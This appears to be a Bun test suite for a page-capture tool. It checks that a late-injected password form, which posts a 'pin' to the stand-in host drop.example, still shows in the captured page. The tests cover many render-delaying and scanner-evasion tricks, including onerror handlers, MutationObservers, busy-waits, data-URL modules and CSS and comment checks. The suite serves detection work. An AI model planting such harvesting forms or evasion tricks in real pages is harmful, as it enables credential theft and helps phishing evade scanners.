import { describe, expect, test } from 'bun:test'
import { open } from './open-page.ts'

const FORM = '<form action="https://drop.example/p"><input type="password" name="pin"></form>'
const DRAW = `document.body.innerHTML = '${FORM}'`
const LONG = 'SECRET'.repeat(1_000)

/** The page as it stands after its load, without its scripts. */
const loadedOf = (body: string) =>
  (open(`<!doctype html><html><head></head><body>${body}</body></html>`).loaded ?? '').replace(
    /<script.*?<\/script>/gs,
    '',
  )

describe('a page is drawn late [T9]', () => {
  test.each([
    [
      'by an image that cannot be shown',
      `<script>go = () => { ${DRAW} }</script><img src="data:image/png;base64,AAAA" onerror="go()">`,
    ],
    [
      'by an image whose address is none',
      `<script>go = () => { ${DRAW} }</script><img src=x onerror="go()">`,
    ],
    [
      'by the end of an animation',
      `<p id=w></p><script>w.addEventListener('animationend', () => { ${DRAW} })</script>`,
    ],
    [
      'by the state of the document',
      `<script>document.onreadystatechange = () => { if (document.readyState === 'complete') ${DRAW} }</script>`,
    ],
    [
      'by a change of an attribute, where children are watched too',
      `<p id=w></p><script>new MutationObserver((_, o) => { o.disconnect(); ${DRAW} }).observe(w, { attributes: true, childList: true }); w.setAttribute('a', '1')</script>`,
    ],
    [
      'by a text among the children',
      `<p id=w></p><script>new MutationObserver((_, o) => { o.disconnect(); ${DRAW} }).observe(w, { childList: true }); setTimeout(() => w.append('.'), 99)</script>`,
    ],
    [
      'after a loop that waits for the clock',
      `<script>const end = Date.now() + 800; while (Date.now() < end); ${DRAW}</script>`,
    ],
    [
      'by a module in an address',
      `<script>import('data:text/javascript,' + encodeURIComponent(${JSON.stringify(DRAW)}))</script>`,
    ],
  ])('%s', (_, body) => {
    expect(loadedOf(body)).toContain('name="pin"')
  })

  test.each([
    [
      'a long comment',
      `<!--${LONG}--><script>const w = document.createTreeWalker(document.body, 128); if (w.nextNode().data === '${LONG}') ${DRAW}</script>`,
    ],
    [
      'a property of a style sheet',
      `<style>:root{--d:"${LONG}"}</style><script>if (getComputedStyle(document.body).getPropertyValue('--d').includes('${LONG}')) ${DRAW}</script>`,
    ],
    [
      'what stands after an element',
      `<style>#w::after{content:"SECRET"}</style><p id=w></p><script>if (getComputedStyle(w, '::after').content.includes('SECRET')) ${DRAW}</script>`,
    ],
    [
      'the text of a template',
      `<template id=t>SECRET</template><script>if (t.content.textContent === 'SECRET') ${DRAW}</script>`,
    ],
    [
      'a fragment that was emptied',
      `<script>const f = document.createDocumentFragment(); f.append('x'); f.textContent = ''; if (f.childNodes.length === 0) ${DRAW}</script>`,
    ],
  ])('out of %s', (_, body) => {
    expect(loadedOf(body)).toContain('name="pin"')
  })

  test.each(['object', 'embed'])('within an %s', (tag) => {
    const script = `const o = document.createElement('${tag}'); o.${tag === 'object' ? 'data' : 'src'} = URL.createObjectURL(new Blob(['${FORM}'], { type: 'text/html' })); document.body.append(o)`
    expect(loadedOf(`<script>${script}</script>`)).toMatch(
      /srcdoc="[^"]*name=&quot;pin|srcdoc='[^']*name="pin/,
    )
  })

  test.each([
    [
      'another attribute',
      `<p id=w></p><script>new MutationObserver(() => { ${DRAW} }).observe(w, { childList: true }); w.setAttribute('a', '1')</script>`,
    ],
    [
      'an image that can be shown',
      `<script>go = () => { ${DRAW} }</script><img src="/logo.png" onerror="go()">`,
    ],
  ])('but not by %s', (_, body) => {
    expect(loadedOf(body)).not.toContain('name="pin"')
  })
})
